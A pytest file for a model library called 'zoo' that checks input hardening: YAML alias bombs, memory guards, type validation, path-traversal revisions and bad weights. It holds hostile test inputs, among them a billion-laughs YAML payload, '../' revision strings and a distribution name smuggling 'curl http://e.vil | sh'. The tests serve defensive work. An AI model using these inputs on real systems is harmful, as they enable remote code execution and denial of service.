"""What zoo promises of its input (docs/promises.md): no input hangs (it is bounded
before anything reads it whole), the memory guard refuses before it allocates, bad input
gets one of zoo's errors naming the value, nothing hostile gets through, and weights and
settings that should not load do not."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
import torch
from safetensors.torch import load_file, save_file

import zoo
from zoo.artifact import CONFIG_NAME, INDEX_NAME, WEIGHTS_NAME
from zoo.tied import tied_groups
from zoo.training.checkpoint import latest_checkpoint

from .conftest import run_zoo
from .test_promises import python, tiny
from .test_training import TINY


# -- 7. nothing hangs: inputs are bounded before anything reads them whole ----------------------
LAUGHS = "\n".join(["a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
                   + [f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]"
                      for p, c in zip("abcdefgh", "bcdefghi")])


def test_a_billion_laughs_recipe_is_refused_at_once(tmp_path):
    path = tmp_path / "laughs.yaml"
    path.write_text("name: laughs\narchitecture: seq2seq\n" + LAUGHS + "\ndescription: *i\n")
    done = python("import sys, zoo\nzoo.build(sys.argv[1])", path, timeout=60)
    assert "RecipeError" in done.stderr and "YAML aliases count" in done.stderr
    assert len(done.stderr) < 5000  # the error quotes a little, not the expansion


def test_a_billion_laughs_set_value_and_override_are_refused_at_once():
    value = "{" + LAUGHS.replace("\n", ", ").replace(": &", ": &") + "}"
    done = run_zoo("info", "transformer-tiny", "--set", f"norm.eps={value}")
    assert done.returncode == 2 and "YAML aliases count" in done.stderr, done.stderr[-2000:]
    code = ("import zoo\nx = [1.0]\nfor _ in range(25):\n    x = [x, x]\n"
            "zoo.build('transformer-tiny', **{'norm.eps': x})")
    done = python(code, timeout=60)
    assert "RecipeError" in done.stderr and "more than 20,000 values" in done.stderr


# -- 8. the memory guard refuses before it allocates -------------------------------------------
def test_a_model_too_large_is_refused_without_allocating_it():
    code = ("import zoo\nzoo.build('transformer-tiny', d_model=2**16, n_heads=2**10, "
            "max_len=2**20, d_ff=64)")
    done = python(code, timeout=60)
    assert "MemoryBudgetError" in done.stderr and "Nothing was allocated" in done.stderr


def test_the_memory_guard_reads_what_this_process_may_still_allocate():
    """Under an address-space limit (ulimit -v) well below the machine's memory, a model
    that fits the machine but not the limit is refused by name before anything is
    allocated (it used to pass the guard and end in the allocator's RuntimeError)."""
    code = ("import resource, zoo, torch\n"
            "size = int(open('/proc/self/status').read().split('VmSize:')[1].split()[0]) * 1024\n"
            "resource.setrlimit(resource.RLIMIT_AS, (size + 3 * 2**30, resource.RLIM_INFINITY))\n"
            "zoo.build('transformer-base', vocab_size=3_000_000)")  # about 5.8 GiB of weights
    done = python(code, timeout=60)
    assert "MemoryBudgetError" in done.stderr, done.stderr[-2000:]
    assert "address-space limit" in done.stderr and "Nothing was allocated" in done.stderr


@pytest.mark.parametrize("model", ["transformer-tiny", "llama-tiny"])
def test_a_decoding_too_large_for_memory_is_refused_before_it_starts(model):
    """Ten million beams (hundreds of GiB of cached keys and scores) is one
    MemoryBudgetError naming num_beams, before anything is allocated (it was the
    allocator's error, or the process killed)."""
    code = (f"import torch, zoo\nm = zoo.build({model!r}).eval()\n"
            "zoo.generate(m, torch.tensor([[5, 6, 7]]), num_beams=10**7, max_new_tokens=2)")
    done = python(code, timeout=120)  # (its own process: a regression may not kill pytest's)
    assert "MemoryBudgetError: decoding 1 source(s) with num_beams=10000000" in done.stderr, \
        done.stderr[-2000:]
    assert "Nothing was allocated" in done.stderr and "fewer beams" in done.stderr


@pytest.mark.parametrize("override", [{"d_model": 10**9}, {"encoder_layers": 10**6},
                                      {"encoder_layers": 10**30}])
def test_absurd_sizes_are_refused_at_once(override):
    code = f"import zoo\nzoo.build('transformer-tiny', **{override!r})"
    done = python(code, timeout=60)
    assert "RecipeError" in done.stderr, done.stderr[-1000:]


# -- 9. one of zoo's errors, naming the value ---------------------------------------------------
def test_files_that_are_not_utf8_are_named(tmp_path):
    recipe = tmp_path / "r.yaml"
    recipe.write_bytes(b"name: caf\xe9\n")
    with pytest.raises(zoo.RecipeError, match="not UTF-8 text"):
        zoo.build(recipe)
    train = tmp_path / "t.yaml"
    train.write_bytes(b"name: x\xff\n")
    with pytest.raises(zoo.RecipeError, match="not UTF-8 text"):
        zoo.train(train, progress=False)
    run = zoo.train("sort", overrides={**TINY, "train.steps": 2}, run_dir=tmp_path / "run",
                    progress=False).run_dir
    (run / "train.yaml").write_bytes(b"\xff" + (run / "train.yaml").read_bytes())
    with pytest.raises(zoo.RecipeError, match="not UTF-8 text"):
        zoo.train(resume=run, progress=False)


@pytest.mark.parametrize("command", [["info"], ["train"]])
def test_recipe_paths_that_are_not_regular_files_are_refused_at_once(tmp_path, command):
    fifo = tmp_path / "pipe.yaml"
    os.mkfifo(fifo)
    zero = tmp_path / "zero.yaml"
    zero.symlink_to("/dev/zero")
    for path, kind in ((fifo, "named pipe"), (zero, "character device"),):
        done = run_zoo(*command, str(path), timeout=60)
        assert done.returncode == 2 and kind in done.stderr and "regular file" in done.stderr
        assert "Traceback" not in done.stderr
    with pytest.raises(zoo.RecipeError, match="named pipe"):
        zoo.build(fifo)
    with pytest.raises(zoo.RecipeError, match="character device"):
        zoo.get_recipe(zero)


def test_a_recipe_file_past_the_bound_is_refused_before_it_is_parsed(tmp_path):
    big = tmp_path / "big.yaml"
    big.write_text("# " + "x" * (1 << 20) + "\nname: x\n")
    with pytest.raises(zoo.RecipeError, match="larger than 1,048,576 bytes"):
        zoo.build(big)


@pytest.mark.parametrize("setting,value,says", [
    ("n_heads", True, "a bool is never a number"),
    ("d_model", "512", "a number in quotes is text"),
    ("d_model", 512.0, "an integer is written without a decimal point"),
    ("share_embeddings", 1, "valid boolean"),
])
def test_a_value_of_another_type_is_never_silently_converted(setting, value, says):
    with pytest.raises(zoo.RecipeError, match=f"{setting}: .*{says}"):
        zoo.build("transformer-tiny", **{setting: value})
    data = zoo.get_recipe("transformer-tiny").to_dict()
    data["architecture"]["settings"][setting] = value
    with pytest.raises(zoo.RecipeError, match=says):
        zoo.build(zoo.Recipe.from_dict(data))

def test_a_training_setting_of_another_type_is_refused():
    from zoo.training.config import apply_train_overrides

    with pytest.raises(zoo.RecipeError, match="steps: .*a bool is never a number"):
        apply_train_overrides(zoo.get_train_recipe("sort"), {"train.steps": True})
    with pytest.raises(zoo.RecipeError, match="a number in quotes is text"):
        apply_train_overrides(zoo.get_train_recipe("sort"), {"optimizer.lr": "0.001"})


def test_a_key_given_twice_is_refused_with_its_lines(tmp_path):
    recipe = tmp_path / "twice.yaml"
    recipe.write_text("name: twice\narchitecture: seq2seq\nname: again\n")
    with pytest.raises(zoo.RecipeError, match="'name' is given twice.*lines 1 and 3"):
        zoo.build(recipe)
    as_json = tmp_path / "twice.json"
    as_json.write_text('{"name": "a", "name": "b"}')
    with pytest.raises(zoo.RecipeError, match="'name' is given twice"):
        zoo.build(as_json)
    done = run_zoo("info", "transformer-tiny", "--set", "norm={name: rmsnorm, name: layernorm}")
    assert done.returncode == 2 and "given twice" in done.stderr
    # YAML's merge key still merges, and 1e-6 is the number it writes
    from zoo.recipe import parse_data

    assert parse_data("b: &x {a: 1}\nc: {<<: *x, a: 2}\neps: 1e-6", "t") == {
        "b": {"a": 1}, "c": {"a": 2}, "eps": 1e-6}


def test_deep_nesting_and_set_syntax_errors_are_recipe_errors(tmp_path):
    deep = tmp_path / "deep.yaml"
    deep.write_text("[" * 5000 + "]" * 5000)
    with pytest.raises(zoo.RecipeError, match="nested"):
        zoo.build(deep)
    done = run_zoo("info", "transformer-tiny", "--set", "norm={name: [rmsnorm")
    assert done.returncode == 2 and "--set norm: not valid YAML" in done.stderr
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize("overrides", [{"model.d_model": 10**30}, {"train.seed": 10**17}])
def test_integers_too_large_for_torch_are_recipe_errors(overrides, tmp_path):
    with pytest.raises(zoo.RecipeError):
        zoo.train("sort", overrides={**TINY, **overrides}, run_dir=tmp_path / "r",
                  progress=False)
    assert not (tmp_path / "r").exists()


@pytest.fixture
def saved(tmp_path) -> Path:
    return zoo.save_pretrained(tiny(1), tmp_path / "m")


def edit_config(folder: Path, edit) -> None:
    config = json.loads((folder / CONFIG_NAME).read_text())
    edit(config)
    (folder / CONFIG_NAME).write_text(json.dumps(config))


def rewrite_weights(folder: Path, state: dict) -> None:
    """A crafted artifact: other weights, with digests that match them."""
    from zoo.artifact import weight_digests

    save_file(state, str(folder / WEIGHTS_NAME))
    edit_config(folder, lambda c: c.__setitem__("weights", {"digests": weight_digests(folder)}))


def test_a_format_version_of_the_wrong_type_is_named(saved):
    edit_config(saved, lambda c: c.__setitem__("format_version", "2"))
    with pytest.raises(zoo.ArtifactError, match="format_version '2'; it is a whole number"):
        zoo.build(f"local-dir:{saved}")


def test_an_index_with_shard_names_that_are_not_strings_is_named(tmp_path):
    folder = zoo.save_pretrained(tiny(1), tmp_path / "m", max_shard_size="200KB")
    index = json.loads((folder / INDEX_NAME).read_text())
    index["weight_map"] = {k: 7 for k in index["weight_map"]}
    (folder / INDEX_NAME).write_text(json.dumps(index))
    with pytest.raises(zoo.ArtifactError, match="index.json is malformed"):
        zoo.build(f"local-dir:{folder}")


def test_requires_names_packages():
    data = zoo.get_recipe("transformer-tiny").to_dict()
    data["requires"] = [""]
    with pytest.raises(zoo.RecipeError, match="requires lists package names"):
        zoo.Recipe.from_dict(data)


def test_out_naming_a_file_is_refused(tmp_path):
    (tmp_path / "file").write_text("not a folder")
    with pytest.raises(zoo.RecipeError, match="is a file"):
        zoo.train("sort", overrides={**TINY, "train.steps": 1}, run_dir=tmp_path / "file",
                  progress=False)
    assert (tmp_path / "file").read_text() == "not a folder"


@pytest.mark.parametrize("damage", ["state", "weights"])
def test_a_corrupt_checkpoint_is_a_checkpoint_error(tmp_path, damage):
    run = zoo.train("sort", overrides={**TINY, "train.steps": 4, "train.checkpoint_every": 2},
                    run_dir=tmp_path / "run", progress=False, stop_after_steps=2).run_dir
    latest = latest_checkpoint(run)
    target = latest / ("state.pt" if damage == "state" else WEIGHTS_NAME)
    target.write_bytes(target.read_bytes()[:100])
    with pytest.raises(zoo.ZooError, match=f"checkpoint {latest} cannot be resumed from"):
        zoo.train(resume=run, progress=False)


def test_a_full_disk_while_checkpointing_says_so_and_keeps_the_last(tmp_path, monkeypatch):
    import shutil as sh

    import zoo.training.checkpoint as ck

    calls = []
    real_save, real_usage = torch.save, sh.disk_usage

    def full(obj, path, *args, **kwargs):
        calls.append(path)
        if len(calls) >= 2:  # the second checkpoint finds the disk full, as torch says it
            raise RuntimeError("[enforce fail at inline_container.cc:664] . unexpected pos "
                               "64 vs 0 PytorchStreamWriter failed writing file data/0: "
                               "file write failed")
        return real_save(obj, path, *args, **kwargs)

    monkeypatch.setattr(ck.torch, "save", full)
    monkeypatch.setattr(sh, "disk_usage",
                        lambda p: real_usage(p)._replace(free=0) if calls else real_usage(p))
    with pytest.raises(zoo.ZooError) as err:
        zoo.train("sort", overrides={**TINY, "train.steps": 6, "train.checkpoint_every": 2},
                  run_dir=tmp_path / "run", progress=False)
    assert "is full" in str(err.value) and "step 2 is kept" in str(err.value)
    assert latest_checkpoint(tmp_path / "run").name == "step-00000002"
    assert not [p for p in (tmp_path / "run" / "checkpoints").iterdir() if p.name[0] == "."]


def test_push_to_a_repo_id_with_a_revision_is_refused():
    with pytest.raises(zoo.ArtifactError, match="revision='main'"):
        zoo.push_to_hub(tiny(1), "alice/x@main")


def test_a_short_last_batch_cut_into_more_micro_batches_than_it_has_trains(tmp_path):
    overrides = {**TINY, "task.num_samples": 72, "train.batch_size": 16, "train.accumulate": 16,
                 "train.epochs": 1}
    result = zoo.train("sort", overrides=overrides, run_dir=tmp_path / "run", progress=False)
    assert result.step == 5  # 72 examples: four batches of 16 and one of 8


# -- 10. a revision cannot reach outside the cache ----------------------------------------------
@pytest.mark.parametrize("name", ["hf-hub:alice/x@../../../../escape", "hf-hub:alice/x@/abs",
                                  "hf-hub:alice/x@a\nb"])
def test_revisions_are_git_ref_names(name, tmp_path, monkeypatch):
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    monkeypatch.chdir(tmp_path)
    with pytest.raises(zoo.ArtifactError, match="is not a branch, tag or commit name"):
        zoo.build(name)
    with pytest.raises(zoo.ArtifactError, match="is not a branch, tag or commit name"):
        zoo.get_recipe(name)
    assert not any(tmp_path.rglob("*escape*"))


def test_published_weights_revisions_and_pull_are_checked_too(monkeypatch):
    data = zoo.get_recipe("vit-tiny-patch16-224").to_dict()
    data["weights"]["revision"] = "../../x"
    with pytest.raises(zoo.RecipeError, match="is not a branch, tag or commit name"):
        zoo.Recipe.from_dict(data)
    done = run_zoo("pull", "alice/x@../../x", env={"HF_HUB_OFFLINE": "1"})
    assert done.returncode == 2 and "is not a branch, tag or commit name" in done.stderr


# -- 11. the missing-plugin hint is never a command to paste ------------------------------------
def test_a_hostile_distribution_name_is_not_offered_to_pip(saved):
    def edit(config):
        config["components"]["norm"].update(name="evil-norm",
                                            distribution="x; curl http://e.vil | sh")
    edit_config(saved, edit)
    with pytest.raises(zoo.MissingPluginError) as err:
        zoo.build(f"local-dir:{saved}")
    assert "pip install x" not in str(err.value) and "not a package name" in str(err.value)


# -- 12. weights that should not load silently --------------------------------------------------
def test_nonfinite_weights_are_refused_unless_asked(tmp_path, monkeypatch):
    model = tiny(1)
    with torch.no_grad():
        model.encoder.layers[0].ffn.fc1.weight[0, 0] = float("nan")
    folder = zoo.save_pretrained(model, tmp_path / "m")
    with pytest.raises(zoo.ArtifactError, match="NaN or infinite.*encoder.layers.0.ffn.fc1."
                                                "weight.*ZOO_NONFINITE_WEIGHTS=1"):
        zoo.build(f"local-dir:{folder}")
    monkeypatch.setenv("ZOO_NONFINITE_WEIGHTS", "1")
    with pytest.warns(RuntimeWarning, match="NaN or infinite.*encoder.layers.0.ffn.fc1.weight"):
        loaded = zoo.build(f"local-dir:{folder}")
    assert torch.isnan(loaded.encoder.layers[0].ffn.fc1.weight[0, 0])
    monkeypatch.setenv("ZOO_NONFINITE_WEIGHTS", "yes")
    with pytest.raises(zoo.SettingError, match="ZOO_NONFINITE_WEIGHTS='yes'.*from 0 to 1"):
        zoo.build(f"local-dir:{folder}")


def test_integer_tensors_for_float_weights_are_refused(saved):
    state = load_file(saved / WEIGHTS_NAME)
    key = "encoder.layers.0.ffn.fc1.weight"
    state[key] = torch.ones_like(state[key], dtype=torch.int64)
    rewrite_weights(saved, state)
    with pytest.raises(zoo.ArtifactError, match=f"wrong kinds of number: {key}: the model "
                                                "holds torch.float32, the file torch.int64"):
        zoo.build(f"local-dir:{saved}")


def test_tied_aliases_stored_with_different_values_are_refused(saved):
    state = load_file(saved / WEIGHTS_NAME)
    model = tiny(1)
    tied = next(g for g in tied_groups(model) if len(g) > 1)
    stored = next(n for n in tied if n in state)
    for name in tied:
        state[name] = state[stored].clone()
    state[tied[-1]][0, 0] += 1.0
    rewrite_weights(saved, state)
    with pytest.raises(zoo.ArtifactError, match="tied weights.*different values"):
        zoo.build(f"local-dir:{saved}")


def _foreign_folder(family: str, folder: Path) -> None:
    import transformers as tf

    from .formats import save_family
    from .language_models import save_language_model

    if family in ("llama-3.2", "qwen2.5", "gpt2"):
        save_language_model(family, folder)
    elif family == "bert":
        tf.BertForMaskedLM(tf.BertConfig(
            vocab_size=99, hidden_size=32, num_hidden_layers=1, num_attention_heads=4,
            intermediate_size=37, architectures=["BertForMaskedLM"])).save_pretrained(folder)
    else:
        save_family(family, folder)


@pytest.mark.parametrize("family,alias,original", [
    ("llama-3.2", "lm_head.weight", "model.embed_tokens.weight"),
    ("qwen2.5", "lm_head.weight", "model.embed_tokens.weight"),
    ("gpt2", "lm_head.weight", "transformer.wte.weight"),
    ("bart", "model.encoder.embed_tokens.weight", "model.shared.weight"),
    ("opus-mt", "lm_head.weight", "model.shared.weight"),
    ("t5", "lm_head.weight", "shared.weight"),
    ("bert", "cls.predictions.decoder.weight", "bert.embeddings.word_embeddings.weight"),
])
def test_a_foreign_folders_tied_matrices_stored_with_different_values_are_refused(
        family, alias, original, tmp_path):
    """A config that ties two matrices (tie_word_embeddings, shared embeddings) and
    weights that store both, with different values: refused by name (zoo kept one of
    them: logits 23.5 from transformers' for a Llama); stored equal, they load."""
    _foreign_folder(family, tmp_path)
    path = tmp_path / "model.safetensors"
    state = load_file(path)
    state[alias] = state[original].clone()
    save_file(state, path, metadata={"format": "pt"})
    zoo.build(f"local-dir:{tmp_path}")  # stored twice, equal: one matrix
    state[alias][0, 0] += 0.5
    save_file(state, path, metadata={"format": "pt"})
    with pytest.raises(zoo.FormatError, match=f"ties {alias} to {original} .* different values "
                                              "up to 0.5 apart. Set tie_word_embeddings"):
        zoo.build(f"local-dir:{tmp_path}")


# -- 13. settings that make no sense ------------------------------------------------------------
def test_settings_that_make_no_sense_are_refused(tmp_path):
    with pytest.raises(zoo.RecipeError, match="not a number a setting can take"):
        zoo.build("transformer-tiny", **{"norm.eps": float("inf")})
    with pytest.raises(zoo.RecipeError, match="eps"):
        zoo.get_component("norm", "layernorm").build({"eps": float("inf")}, dim=4)
    with pytest.raises(zoo.RecipeError, match="pad_id 1000 is not a token"):
        zoo.build("transformer-tiny", pad_id=1000)
    with pytest.raises(zoo.RecipeError, match="cannot name a run"):
        zoo.train("sort", overrides={**TINY, "train.name": str(tmp_path / "escape")},
                  progress=False)


def test_a_model_override_the_task_replaces_is_said(tmp_path):
    with pytest.warns(UserWarning, match="model.vocab_size=500 is replaced by 13"):
        zoo.train("sort", overrides={**TINY, "train.steps": 1, "model.vocab_size": 500},
                  run_dir=tmp_path / "run", progress=False)


def test_a_nan_loss_stops_the_run_and_keeps_the_last_checkpoint(tmp_path, monkeypatch):
    from zoo.plugins.tasks._seq2seq import Seq2SeqTask

    real, calls = Seq2SeqTask.loss, []

    def breaks_at_step_3(self, model, batch, criterion):
        loss, units = real(self, model, batch, criterion)
        calls.append(1)
        return (loss * float("nan") if len(calls) == 3 else loss), units

    monkeypatch.setattr(Seq2SeqTask, "loss", breaks_at_step_3)
    with pytest.raises(zoo.ZooError, match="loss became nan at step 3.*step 2 is kept"):
        zoo.train("sort", overrides={**TINY, "train.steps": 6, "train.checkpoint_every": 2},
                  run_dir=tmp_path / "run", progress=False)
    latest = latest_checkpoint(tmp_path / "run")
    assert latest.name == "step-00000002"
    weights = load_file(latest / WEIGHTS_NAME)
    assert all(torch.isfinite(t).all() for t in weights.values())
    monkeypatch.setattr(Seq2SeqTask, "loss", real)
    assert zoo.train(resume=tmp_path / "run", progress=False).step == 6


def test_task_data_past_the_machines_memory_is_refused_before_it_is_made():
    done = run_zoo("train", "sort", "--set", "task.num_samples=1000000000000")
    assert done.returncode == 2 and "Nothing was allocated" in done.stderr
    assert "task.num_samples" in done.stderr and "Traceback" not in done.stderr


def test_the_sequence_tasks_data_estimate_is_what_prepare_holds():
    import tracemalloc

    from zoo.registry import registry

    task = registry.get("task", "sort").build({"num_samples": 20000}, seed=0, workdir=None)
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        task.prepare()
        held = tracemalloc.get_traced_memory()[0] - before
    finally:
        tracemalloc.stop()
    assert 0.5 < held / task.data_bytes() < 1.5, (held, task.data_bytes())


@pytest.mark.parametrize("name,value", [
    ("ZOO_NATIVE_BUILD_TIMEOUT", "nan"), ("ZOO_NATIVE_BUILD_TIMEOUT", "-1"),
    ("ZOO_HUB_RETRIES", "inf"), ("ZOO_HUB_RETRIES", "2.5"), ("ZOO_HUB_RETRY_WAIT", "x"),
    ("ZOO_DIST_TIMEOUT", "0"),
])
def test_a_numeric_environment_variable_out_of_its_range_is_one_setting_error(
        monkeypatch, name, value):
    """A timeout of nan or -1 (which waited for ever), retries of inf (an OverflowError):
    each numeric variable is parsed in one place by its range and refused by name."""
    from zoo.env_settings import SETTINGS, setting

    monkeypatch.setenv(name, value)
    with pytest.raises(zoo.SettingError, match=f"{name}={value!r}: .* from "):
        setting(name)
    monkeypatch.setenv(name, "")
    assert setting(name) == SETTINGS[name].default  # unset or empty: the default


def test_the_hub_retries_read_their_setting(monkeypatch):
    from zoo import hub

    monkeypatch.setenv("ZOO_HUB_RETRIES", "inf")
    with pytest.raises(zoo.SettingError, match="ZOO_HUB_RETRIES='inf'"):
        hub.download_file("alice/none", "config.json", "main", what="a file")
